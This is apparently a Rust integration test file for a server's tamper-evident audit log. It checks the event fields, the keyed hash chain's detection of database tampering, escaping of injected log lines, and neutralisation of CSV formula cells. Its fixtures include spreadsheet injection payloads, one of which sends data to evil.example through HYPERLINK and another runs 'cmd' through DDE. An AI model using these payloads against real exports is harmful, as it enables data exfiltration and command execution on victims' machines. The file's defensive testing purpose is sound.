//! The audit log through the real server: events carry IP, MSISDN, request
//! id, path, actor and key; filters and the CSV download; the hash chain
//! verifies, and a row tampered with in the database is found by the API and
//! by `energyload audit verify`; user-supplied CR/LF is escaped and long text
//! capped; a security event that cannot be written turns the answer into 503.
//! The chain is keyed: rewriting a row and recomputing the plain SHA-256
//! chain (all a forger with the database alone can do) is found; a database
//! from before the switch keeps verifying; `audit head` follows the chain;
//! pruning keeps it verifiable. CSV exports (API and CLI) neutralise cells
//! that a spreadsheet would run as formulas and parse back with the csv crate.

use std::path::Path;

use energyload::storage::audit::chain_hash;
use serde_json::json;

use crate::common::identity::PASSWORD;
use crate::common::process::run_cli;
use crate::common::{spawn_app, spawn_app_with};

const AUDIT: &str = "/api/v1/management/audit";

#[test]
fn events_carry_ip_msisdn_request_id_path_actor_and_key() {
    let app = spawn_app();
    let (key, token, admin) = app.admin_session();
    let rita = app.seed_user("rita", "user");
    let headers =
        [("X-MSISDN", "+352621123456"), ("X-Request-Id", "req-audit-1"), ("X-Forwarded-For", "203.0.113.9")];
    assert_eq!(app.login_reply(&key, "rita", PASSWORD, &headers).status, 200);
    let events = app.audit_events(&key, &token, &format!("type=login_success&user_id={}", rita.id));
    assert_eq!(events.len(), 1, "{events:?}");
    let e = &events[0];
    for field in [
        "id",
        "ts",
        "type",
        "ip",
        "msisdn",
        "user_id",
        "username",
        "api_key_id",
        "request_id",
        "path",
        "detail",
    ] {
        assert!(e.get(field).is_some(), "{field} missing: {e}");
    }
    assert_eq!(e["type"], "login_success");
    assert_eq!(e["ip"], "127.0.0.1", "X-Forwarded-For from an untrusted peer is ignored");
    assert_eq!(e["msisdn"], "+352621123456");
    assert_eq!(e["request_id"], "req-audit-1");
    assert_eq!(e["path"], "/login");
    assert_eq!(e["username"], "rita");
    assert!(e["api_key_id"].is_string());
    assert!(e["ts"].as_str().unwrap().ends_with('Z') && e["ts"].as_str().unwrap().contains('.'));

    // Filters: type, user_id, ip, since/until.
    let mine = app.audit_events(&key, &token, &format!("user_id={}", admin.id));
    assert!(!mine.is_empty() && mine.iter().all(|e| e["user_id"] == admin.id.as_str()));
    assert!(app.audit_events(&key, &token, "ip=10.9.9.9").is_empty());
    assert!(!app.audit_events(&key, &token, "ip=127.0.0.1").is_empty());
    assert!(app.audit_events(&key, &token, "since=2999-01-01T00:00:00.000Z").is_empty());
    assert!(app.audit_events(&key, &token, "until=2000-01-01T00:00:00.000Z").is_empty());
    let all = app.audit_events(&key, &token, "");
    let ids: Vec<u64> = all.iter().map(|e| e["id"].as_str().unwrap().parse().unwrap()).collect();
    assert!(ids.windows(2).all(|w| w[0] > w[1]), "newest first: {ids:?}");
    app.authed("GET", &format!("{AUDIT}?since=yesterday"), &key, &token, None)
        .assert_error(400, "BadRequest");

    // The CSV download holds the same events.
    let csv = app.authed("GET", &format!("{AUDIT}?format=csv"), &key, &token, None);
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    assert!(csv.header("content-disposition").unwrap().contains("attachment"));
    let text = csv.text();
    assert!(
        text.starts_with("id,ts,type,ip,msisdn,user_id,username,api_key_id,request_id,path,detail\n"),
        "{text}"
    );
    assert!(
        text.lines()
            .any(|l| l.contains("login_success") && l.contains("req-audit-1") && l.contains("+352621123456"))
    );
    // The CSV export is taken after the list, so it may have grown by the list's own events (none are audited).
    assert!(text.lines().count() > all.len(), "{} lines for {} events", text.lines().count(), all.len());
}

#[test]
fn x_forwarded_for_is_believed_only_from_trusted_proxies() {
    let app = spawn_app_with(|c| c.server.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()]);
    let (key, token, _) = app.admin_session();
    app.login_reply(&key, "nobody", PASSWORD, &[("X-Forwarded-For", "203.0.113.9")]);
    let events = app.audit_events(&key, &token, "type=login_failure");
    assert_eq!(events[0]["ip"], "203.0.113.9");
}

#[test]
fn the_chain_verifies_and_a_tampered_row_is_found_by_the_api_and_the_cli() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    app.login_reply(&key, "nobody", "some-wrong-password", &[]);
    app.login_reply(&key, "admin", PASSWORD, &[]);
    let r = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None);
    assert_eq!(r.status, 200);
    let ok = r.json();
    assert_eq!(ok["ok"], true, "{ok}");
    assert!(ok["checked"].as_u64().unwrap() >= 3, "{ok}");
    let config = app.cli_config();
    let out = run_cli(&config, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");

    let failure = &app.audit_events(&key, &token, "type=login_failure")[0];
    let id: i64 = failure["id"].as_str().unwrap().parse().unwrap();
    let changed =
        app.db().execute("UPDATE audit_events SET username = 'someone-else' WHERE id = ?1", [id]).unwrap();
    assert_eq!(changed, 1);

    let report = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["first_broken"]["id"], id.to_string(), "{report}");
    let out = run_cli(&config, &["audit", "verify"]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(said.contains(&id.to_string()), "the first broken id is named: {said}");
}

#[test]
fn a_deleted_row_breaks_the_chain_too() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    app.login_reply(&key, "nobody", "some-wrong-password", &[]);
    app.login_reply(&key, "admin", PASSWORD, &[]);
    let events = app.audit_events(&key, &token, "");
    let middle: i64 = events[1]["id"].as_str().unwrap().parse().unwrap();
    app.db().execute("DELETE FROM audit_events WHERE id = ?1", [middle]).unwrap();
    let report = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
    assert_eq!(report["ok"], false, "{report}");
}

#[test]
fn user_supplied_text_is_escaped_and_capped() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    let forged = "mallory\r\n2026-01-01 INFO login_success admin";
    app.login_reply(&key, forged, "some-wrong-password", &[]).assert_error(401, "InvalidCredentials");
    let long = "m".repeat(5000);
    app.login_reply(&key, &long, "some-wrong-password", &[]);
    let r = app.authed(
        "POST",
        "/api/v1/management/apikeys",
        &key,
        &token,
        Some(&json!({"name": "line1\nline2"})),
    );
    assert_eq!(r.status, 201, "{}", r.text());

    let failures = app.audit_events(&key, &token, "type=login_failure");
    let names: Vec<&str> = failures.iter().map(|e| e["username"].as_str().unwrap()).collect();
    assert!(names.contains(&"mallory\\r\\n2026-01-01 INFO login_success admin"), "{names:?}");
    assert!(names.iter().all(|n| !n.contains(['\r', '\n'])));
    assert!(
        names.iter().all(|n| n.chars().count() <= 300),
        "capped: {:?}",
        names.iter().map(|n| n.len()).collect::<Vec<_>>()
    );
    let created = &app.audit_events(&key, &token, "type=apikey_created")[0];
    // A key name's line break is whitespace: made one space when the name
    // is parsed (domain::api_key_name), before the audit sees it.
    assert_eq!(created["detail"]["name"], "line1 line2");

    let csv = app.authed("GET", &format!("{AUDIT}?format=csv"), &key, &token, None).text();
    assert!(!csv.contains('\r'), "no raw CR in the export");
    assert!(
        csv.lines().all(|l| l.starts_with("id,") || l.split(',').next().unwrap().parse::<u64>().is_ok()),
        "one event per line:\n{csv}"
    );
}

#[test]
fn a_security_event_that_cannot_be_written_turns_the_answer_into_503() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    let sam = app.seed_user("sam", "user");
    app.db()
        .execute_batch("CREATE TRIGGER no_audit BEFORE INSERT ON audit_events BEGIN SELECT RAISE(ABORT, 'disk full'); END;")
        .unwrap();
    let r = app.login_reply(&key, "sam", PASSWORD, &[]);
    r.assert_error(503, "ServiceUnavailable");
    assert!(!r.text().contains("disk full") && !r.text().contains("audit_events"), "{}", r.text());
    assert!(!r.text().contains("eyJ"), "no token handed out unaudited");
    app.login_reply(&key, "sam", "wrong-password-1", &[]).assert_error(503, "ServiceUnavailable");
    let body = json!({"username": "tina", "password": "tina-password-1", "roles": ["user"]});
    app.authed("POST", "/api/v1/management/users/user", &key, &token, Some(&body))
        .assert_error(503, "ServiceUnavailable");
    let edit = format!("/api/v1/management/users/user/edit/{}", sam.id);
    app.authed("PATCH", &edit, &key, &token, Some(&json!({"roles": ["admin"]})))
        .assert_error(503, "ServiceUnavailable");
    app.authed("POST", "/api/v1/management/apikeys", &key, &token, Some(&json!({"name": "unaudited"})))
        .assert_error(503, "ServiceUnavailable");
    app.db().execute_batch("DROP TRIGGER no_audit").unwrap();
    assert_eq!(app.login_reply(&key, "sam", PASSWORD, &[]).status, 200);
    // The refused changes did not happen unaudited.
    let users = app.authed("GET", "/api/v1/management/users", &key, &token, None).text();
    assert!(!users.contains("tina"), "a user was created without an audit event: {users}");
    let got = app.authed("GET", &format!("/api/v1/management/users/user/{}", sam.id), &key, &token, None);
    assert_eq!(got.json()["roles"], json!(["user"]), "a role change without an audit event");
    let keys = app.authed("GET", "/api/v1/management/apikeys", &key, &token, None).text();
    assert!(!keys.contains("unaudited"), "a key was created without an audit event: {keys}");
    assert_eq!(app.authed("GET", "/api/v1/management/audit/verify", &key, &token, None).json()["ok"], true);
}

/// What a forger with write access to the database (not to the key file)
/// does: change a row, then recompute every link from it on with the plain
/// SHA-256 rule the chain used to have.
fn rewrite_and_recompute_plain_chain(db: &rusqlite::Connection, from_id: i64) {
    let mut prev: Vec<u8> = db
        .query_row("SELECT hash FROM audit_events WHERE id < ?1 ORDER BY id DESC LIMIT 1", [from_id], |r| {
            r.get(0)
        })
        .or_else(|_| {
            db.query_row("SELECT value FROM meta WHERE key = 'audit_anchor'", [], |r| r.get::<_, String>(0))
                .map(|h| hex::decode(h).unwrap())
        })
        .unwrap_or_else(|_| vec![0; 32]);
    let mut stmt = db.prepare("SELECT * FROM audit_events WHERE id >= ?1 ORDER BY id").unwrap();
    let rows: Vec<energyload::storage::audit::AuditRow> = stmt
        .query_map([from_id], energyload::storage::audit::row_from)
        .unwrap()
        .map(Result::unwrap)
        .collect();
    for row in rows {
        let hash = chain_hash(&prev, &row);
        db.execute(
            "UPDATE audit_events SET prev_hash = ?1, hash = ?2 WHERE id = ?3",
            rusqlite::params![prev, &hash[..], row.id],
        )
        .unwrap();
        prev = hash.to_vec();
    }
}

fn cli_text(config: &Path, args: &[&str]) -> (Option<i32>, String) {
    let out = run_cli(config, args);
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.code(), text)
}

#[test]
fn a_row_rewritten_with_the_plain_chain_recomputed_is_found() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    app.login_reply(&key, "nobody", "some-wrong-password", &[]);
    app.login_reply(&key, "admin", PASSWORD, &[]);
    let failure = &app.audit_events(&key, &token, "type=login_failure")[0];
    let id: i64 = failure["id"].as_str().unwrap().parse().unwrap();
    let db = app.db();
    db.execute("UPDATE audit_events SET username = 'someone-else' WHERE id = ?1", [id]).unwrap();
    rewrite_and_recompute_plain_chain(&db, id);
    // The forger also moves the switch point past the head: no help.
    db.execute("UPDATE meta SET value = '999999' WHERE key = 'audit_keyed_from'", []).unwrap();

    let report = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
    assert_eq!(report["ok"], false, "{report}");
    assert_eq!(report["first_broken"]["id"], id.to_string(), "{report}");
    assert_eq!(report["first_broken"]["reason"], "unkeyed", "{report}");
    let (code, said) = cli_text(&app.cli_config(), &["audit", "verify"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains(&format!("BROKEN at event {id}:")) && said.contains("unkeyed"), "{said}");
}

#[test]
fn the_key_lives_outside_the_database_and_a_lost_key_is_named() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    let key_file = app.data_dir().join("audit-chain.key");
    let text = std::fs::read_to_string(&key_file).expect("the key file is created with the first event");
    let secret = text.lines().find_map(|l| l.strip_prefix("key=")).unwrap().to_string();
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&key_file).unwrap().permissions().mode() & 0o777, 0o600);
    let db_bytes = std::fs::read(app.data_dir().join("energyload.db")).unwrap();
    let db_text = String::from_utf8_lossy(&db_bytes);
    assert!(!db_text.contains(&secret), "the key is not in the database");
    let exported = cli_ok_text(&app.cli_config(), &["audit", "export", "--format", "csv"]);
    assert!(!exported.contains(&secret));

    // Moved away (a restore without it): the CLI names the first keyed event.
    std::fs::rename(&key_file, app.data_dir().join("elsewhere.key")).unwrap();
    let (code, said) = cli_text(&app.cli_config(), &["audit", "verify"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("BROKEN at event 1:") && said.contains("key_missing"), "{said}");
    std::fs::rename(app.data_dir().join("elsewhere.key"), &key_file).unwrap();
    assert_eq!(app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json()["ok"], true);
}

fn cli_ok_text(config: &Path, args: &[&str]) -> String {
    let (code, text) = cli_text(config, args);
    assert_eq!(code, Some(0), "{args:?}: {text}");
    text
}

#[test]
fn a_database_from_before_the_switch_verifies_and_keeps_verifying_with_keyed_events() {
    use crate::upgrade::seeds;
    let dir = tempfile::tempdir().unwrap();
    let config = crate::common::process::write_config(dir.path(), "[audit]\nretention_days = 36500\n");
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/schema/v3.sqlite");
    std::fs::copy(fixture, data.join("energyload.db")).unwrap();
    cli_ok_text(&config, &["migrate"]);
    let legacy = seeds::AUDIT_EVENTS;
    let out = cli_ok_text(&config, &["audit", "verify"]);
    let switch = legacy + 1;
    assert!(out.contains(&format!("{legacy} events checked, keyed from event {switch}")), "{out}");

    let mut server = crate::common::process::ChildServer::start(&config);
    let alice = &seeds::USERS[0];
    let admin = crate::cli_identity::token(&server, &seeds::api_key(), alice.username, alice.password);
    let verify = crate::cli_identity::call(
        &server,
        "GET",
        "/api/v1/management/audit/verify",
        &seeds::api_key(),
        &admin,
        None,
    )
    .json();
    assert_eq!(verify["ok"], true, "{verify}");
    assert_eq!(verify["keyed_from"], switch.to_string(), "{verify}");
    assert!(verify["checked"].as_u64().unwrap() > legacy, "{verify}");
    server.signal(rustix::process::Signal::TERM);
    assert_eq!(server.wait(std::time::Duration::from_secs(30)), Some(0));
    cli_ok_text(&config, &["user", "add", "dora", "--role", "user"]);
    assert!(cli_ok_text(&config, &["audit", "verify"]).starts_with("audit chain ok"));

    // A legacy row is still protected by its links: altered and recomputed,
    // the break shows at the first keyed event.
    let db = rusqlite::Connection::open(data.join("energyload.db")).unwrap();
    db.execute("UPDATE audit_events SET type = 'logout' WHERE id = 3", []).unwrap();
    let (code, said) = cli_text(&config, &["audit", "verify"]);
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("BROKEN at event 3:") && said.contains("altered"), "{said}");
    rewrite_and_recompute_plain_chain(&db, 3);
    let (_, said) = cli_text(&config, &["audit", "verify"]);
    assert!(said.contains(&format!("BROKEN at event {switch}:")) && said.contains("unkeyed"), "{said}");
}

/// `audit head`'s `id=… ts=… hash=…` fields.
fn head_fields(line: &str) -> (String, String, String) {
    let field = |name: &str| {
        line.split_whitespace()
            .find_map(|w| w.strip_prefix(&format!("{name}=")))
            .unwrap_or_default()
            .to_string()
    };
    (field("id"), field("ts"), field("hash"))
}

#[test]
fn audit_head_follows_each_event_and_matches_what_verify_reports() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    let config = app.cli_config();
    let mut seen = Vec::new();
    for attempt in 0..3 {
        let (id, ts, hash) = head_fields(cli_ok_text(&config, &["audit", "head"]).trim());
        assert_eq!(hash.len(), 64, "{id} {hash}");
        assert!(ts.ends_with('Z'), "{ts}");
        let verify = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
        assert_eq!(verify["head"], json!({"id": id, "ts": ts, "hash": hash}), "{verify}");
        let newest = &app.audit_events(&key, &token, "limit=1")[0];
        assert_eq!(newest["id"], id);
        let cli_verify = cli_ok_text(&config, &["audit", "verify"]);
        assert!(cli_verify.contains(&format!("head id={id} ts={ts} hash={hash}")), "{cli_verify}");
        assert!(!seen.contains(&hash), "a new event moves the head");
        seen.push(hash);
        app.login_reply(&key, "nobody", &format!("wrong-password-{attempt}"), &[]);
    }
}

#[test]
fn pruning_keeps_the_keyed_chain_verifiable_and_the_head_anchored() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    for n in 0..3 {
        app.login_reply(&key, "nobody", &format!("wrong-password-{n}"), &[]);
    }
    let config = app.cli_config();
    let before = head_fields(cli_ok_text(&config, &["audit", "head"]).trim());
    let mut db = app.db();
    let pruned = energyload::storage::audit::prune_before(&mut db, i64::MAX).unwrap();
    assert!(pruned >= 4, "{pruned}");
    // Everything pruned: the head is the anchor, the same hash as before.
    let anchor = head_fields(cli_ok_text(&config, &["audit", "head"]).trim());
    assert_eq!((&anchor.0, anchor.1.as_str(), &anchor.2), (&before.0, "-", &before.2));
    app.login_reply(&key, "nobody", "wrong-password-after", &[]);
    let report = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["checked"], 1, "{report}");
    // The first event after the anchor, rewritten and recomputed, is found.
    let first: i64 = report["head"]["id"].as_str().unwrap().parse().unwrap();
    db.execute("UPDATE audit_events SET ip = '10.0.0.1' WHERE id = ?1", [first]).unwrap();
    rewrite_and_recompute_plain_chain(&db, first);
    let report = app.authed("GET", &format!("{AUDIT}/verify"), &key, &token, None).json();
    assert_eq!(report["first_broken"]["reason"], "unkeyed", "{report}");
}

/// Values a client puts in `X-MSISDN` that a spreadsheet would run.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "=1+1,\"x\"",
    "-2+3;=cmd|' /C calc'!A0",
];

fn assert_neutralised(csv_text: &str, expected_rows: usize, what: &str) {
    let mut reader = csv::ReaderBuilder::new().from_reader(csv_text.as_bytes());
    assert_eq!(reader.headers().unwrap().len(), 11, "{what}");
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("parses back")).collect();
    assert_eq!(records.len(), expected_rows, "{what}: one record per event");
    for r in &records {
        assert_eq!(r.len(), 11, "{what}: {r:?}");
        for cell in r {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: cell {cell:?} in {r:?}");
        }
    }
    for formula in FORMULAS {
        let cell = format!("'{formula}");
        assert!(records.iter().any(|r| &r[4] == cell.as_str()), "{what}: {cell} in the msisdn column");
    }
}

#[test]
fn csv_exports_neutralise_formula_cells_and_parse_back() {
    let app = spawn_app();
    let (key, token, _) = app.admin_session();
    for formula in FORMULAS {
        assert_eq!(app.login_reply(&key, "admin", PASSWORD, &[("X-MSISDN", formula)]).status, 200);
    }
    let stored = app.audit_events(&key, &token, "type=login_success");
    let msisdns: Vec<&str> = stored.iter().filter_map(|e| e["msisdn"].as_str()).collect();
    for formula in FORMULAS {
        assert!(msisdns.contains(&formula), "stored as sent (JSON keeps the value): {msisdns:?}");
    }

    let csv = app.authed("GET", &format!("{AUDIT}?format=csv"), &key, &token, None);
    assert_eq!(csv.status, 200);
    let events = app.audit_events(&key, &token, "").len();
    assert_neutralised(&csv.text(), events, "API");

    let config = app.cli_config();
    let json_lines = cli_ok_text(&config, &["audit", "export"]).lines().count();
    let exported = run_cli(&config, &["audit", "export", "--format", "csv"]);
    assert!(exported.status.success(), "{exported:?}");
    assert_neutralised(&String::from_utf8(exported.stdout).unwrap(), json_lines, "CLI");
}
